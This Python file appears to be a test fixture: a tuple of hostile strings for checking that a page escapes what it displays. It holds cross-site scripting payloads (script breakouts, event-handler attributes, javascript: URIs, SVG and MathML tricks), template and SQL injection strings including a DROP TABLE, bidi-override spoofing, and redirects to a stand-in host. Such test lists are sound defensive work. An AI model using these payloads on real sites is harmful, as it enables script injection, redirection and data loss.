"""Texts that mean harm to a page that shows them.

Where one works, it opens a dialog, or makes an element that has the attribute ``data-hostile``.
None has two blanks in a row, so that a page shows each as it is.
"""

from __future__ import annotations

from typing import Final

HOSTILE_TEXTS: Final = (
    "<script data-hostile>alert(1)</script>",
    "</script><script data-hostile>alert(2)</script>",
    "</title></style></textarea></template><b data-hostile>3</b>",
    '"><img data-hostile src=x onerror=alert(4)>',
    "'><img data-hostile src=x onerror='alert(5)'>",
    '" autofocus tabindex=1 onfocus="alert(6)" data-hostile="',
    "' onmouseover='alert(7)' data-hostile='",
    "` onclick=alert(8) data-hostile=`",
    "x onpointerenter=alert(9) data-hostile",
    "<svg data-hostile onload=alert(10)><a xlink:href=javascript:alert(10)>10</a></svg>",
    "<math data-hostile><mtext></math><style><img data-hostile src onerror=alert(11)></style>",
    "<iframe data-hostile srcdoc='<script>alert(12)</script>'></iframe>",
    "<object data-hostile data=javascript:alert(13)></object>",
    "<base data-hostile href=http://evil.example.org/>",
    "<meta data-hostile http-equiv=refresh content='0;url=http://evil.example.org/'>",
    "<link data-hostile rel=stylesheet href=http://evil.example.org/x.css>",
    "<form data-hostile action=http://evil.example.org/><button>17</button></form>",
    "<details data-hostile open ontoggle=alert(18)>18</details>",
    "<!-- <b data-hostile>19</b> --><b data-hostile>19</b><!--",
    "--><b data-hostile>20</b><![CDATA[<b data-hostile>20</b>]]>",
    "javascript:alert(21)",
    " JaVaScRiPt&colon;alert(22)//".strip(),
    "data:text/html,<script data-hostile>alert(23)</script>",
    "[24](javascript:alert(24)) ![x](http://evil.example.org/24.png) **24** `24`",
    "${alert(25)} {{constructor.constructor('alert(25)')()}} {25} %s %(x)s #{25}",
    "&lt;b data-hostile&gt;26&lt;/b&gt; &amp;lt; &#60;b&#62; &nbsp;",
    "\\x3cb data-hostile\\x3e27 \\u003cscript\\u003ealert(27) \\0 %00 &#0; \\\\",
    "'; alert(28); // \"; alert(28); /* */ 1; DROP TABLE subscription; --",
    "__proto__ constructor toString 29 null undefined NaN",
    "\u202egnp.30\u202c\u2066isolated\u2069 \u200f\u200b\ufeff\u2028\u2029",
    "fdp\u202etxt.31",
    "W" + "o" * 90 + "rd31",
    "👩‍👩‍👧‍👦🏳️‍🌈 e\u0301 " + "Z" + "\u0301\u0316" * 40 + " 32",
    "\ud7ff\ue000\ufffd\U0010fffd 33",
    "＜script＞alert(34)＜/script＞ ‹b› ﹤b﹥",
    "<b data-hostile\n>35</b\t>".replace("\n", " ").replace("\t", " "),
    "<x-hostile data-hostile><slot name=36></x-hostile>",
)
